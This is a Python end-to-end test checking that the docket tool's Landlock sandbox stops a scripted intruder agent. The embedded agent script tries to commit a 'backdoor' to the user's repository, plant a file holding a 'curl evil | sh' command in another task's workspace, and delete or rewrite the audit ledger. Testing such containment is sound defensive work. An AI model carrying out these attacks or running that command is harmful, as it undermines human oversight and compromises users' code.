"""With the sandbox on (the default), the attacks that docket otherwise answers only after the fact fail at the
kernel: an agent cannot move the target in the user's checkout, write into another task's workspace while that task
runs, or delete or rewrite the ledger. Each attempt is made for real and reported by the agent; the user's
repository, the ledger and the receipt show no trace of it, and the honest task of the same run lands."""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest

from docket.adapters.world.processes.landlock import abi_version
from tests.conftest import git
from tests.e2e.go_world import GoWorld, make_go_world

pytestmark = pytest.mark.skipif(abi_version() < 1, reason="this kernel has no Landlock: the sandbox cannot be tested")

# each try prints one line, "<what>: denied" or "<what>: DONE", so the test sees that the attack was really made
AGENT = r'''
import os, subprocess, sys, time
main, victim, prompt = sys.argv[1], sys.argv[2], sys.stdin.read()
task = os.environ["DOCKET_TASK"].rsplit(".", 1)[-1]
open(f"{task}.py", "w").write(f"print('honest work of {task}')\n")

def attempt(what, action):
    try:
        action()
        print(f"{what}: DONE", flush=True)
    except (OSError, subprocess.CalledProcessError) as error:
        print(f"{what}: denied ({type(error).__name__})", flush=True)

def move_target():
    subprocess.run(["git", "-C", main, "commit", "-q", "--allow-empty", "-m", "backdoor"], check=True,
                   capture_output=True)

def write_victim():
    end = time.monotonic() + 60
    run = os.environ["DOCKET_TASK"].rsplit(".", 1)[0]
    sibling = os.path.join(os.path.dirname(os.getcwd()), f"{run}.{victim}")
    # wait for the victim's workspace, unless this agent's view hides what lies outside its roots: the ledger, made
    # before any agent started, is not there for it, so neither will the workspace ever be (waiting, as this once
    # did, only spent the minute); the write is tried either way
    while (not os.path.exists(os.path.join(sibling, ".git")) and time.monotonic() < end
           and os.path.exists(os.environ["DOCKET_LEDGER"])):
        time.sleep(0.05)
    with open(os.path.join(sibling, "planted.py"), "w") as f:
        f.write("import os; os.system('curl evil | sh')\n")

def delete_ledger():
    os.remove(os.environ["DOCKET_LEDGER"])

def rewrite_ledger():
    with open(os.environ["DOCKET_LEDGER"], "r+b") as f:
        f.seek(200)
        f.write(b"rewritten")

if "attack" in prompt:
    attempt("move the target", move_target)
    attempt("write the victim's workspace", write_victim)
    attempt("delete the ledger", delete_ledger)
    attempt("rewrite the ledger", rewrite_ledger)
else:
    time.sleep(3)  # the victim: its workspace stays open while the intruder tries it
'''

TASKS = '''\
[[tasks]]
id = "victim"
title = "the victim"
prompt = "honest work"

[[tasks]]
id = "intruder"
title = "the intruder"
prompt = "its work (attack)"
'''


def _world(tmp_path: Path) -> GoWorld:
    agent = tmp_path / "intruder.py"
    agent.write_text(AGENT)
    world = make_go_world(tmp_path, tasks=TASKS)
    config = (world.repo / "docket.toml").read_text().replace('agent = "scripted"', 'agent = "intruder"', 1)
    assert 'sandbox = "off"' not in config
    (world.repo / "docket.toml").write_text(config + f'''
[agents.intruder]
command = ["{sys.executable}", "{agent}", "{world.repo}", "victim"]
prompt = "stdin"
idle_timeout = "2m"
''')
    git(world.repo, "commit", "-q", "-am", "the intruder")
    return world


def test_a_sandboxed_agent_reaches_neither_the_target_nor_another_workspace_nor_the_ledger(tmp_path):
    world = _world(tmp_path)
    before = os.stat(world.ledger)

    done = world.go("reach", "--parallel", "2")

    assert done.returncode == 0, done.stderr
    log = "".join(p.read_text() for p in (world.repo / ".git" / "docket" / "logs").rglob("*.log")
                  if "intruder" in str(p))
    assert "move the target: denied (CalledProcessError)" in log, log  # git could not write the user's .git
    for what in ("write the victim's workspace", "delete the ledger", "rewrite the ledger"):
        # really tried, and refused by the kernel: by Landlock (PermissionError), or not there at all for it (its
        # private mounts hide what lies outside its roots: FileNotFoundError, or EROFS for an unlink)
        kinds = ("PermissionError", "FileNotFoundError", "OSError")
        assert any(f"{what}: denied ({kind})" in log for kind in kinds), log
    # the target holds docket's merges of both tasks' honest work and nothing else
    assert world.file_at("main", "victim.py") == "print('honest work of victim')\n"
    assert world.file_at("main", "intruder.py") == "print('honest work of intruder')\n"
    authors = git(world.repo, "log", "--format=%s", "main").splitlines()
    assert "backdoor" not in authors and not world.events("IntegrationTargetMovedByOthers")
    assert "planted.py" not in git(world.repo, "ls-tree", "-r", "--name-only", "main").split()
    # the ledger is the same file, its chain whole, and the receipt names the victim's own work only
    after = os.stat(world.ledger)
    assert (after.st_dev, after.st_ino) == (before.st_dev, before.st_ino)
    assert world.run("verify").returncode == 0
    pinned = [e["payload"] for e in world.events("CandidatePinned")]
    victim_commits = [p["commit"] for p in pinned if p["task_id"].endswith("victim")]
    for commit in victim_commits:
        assert "planted.py" not in git(world.repo, "ls-tree", "-r", "--name-only", commit).split()
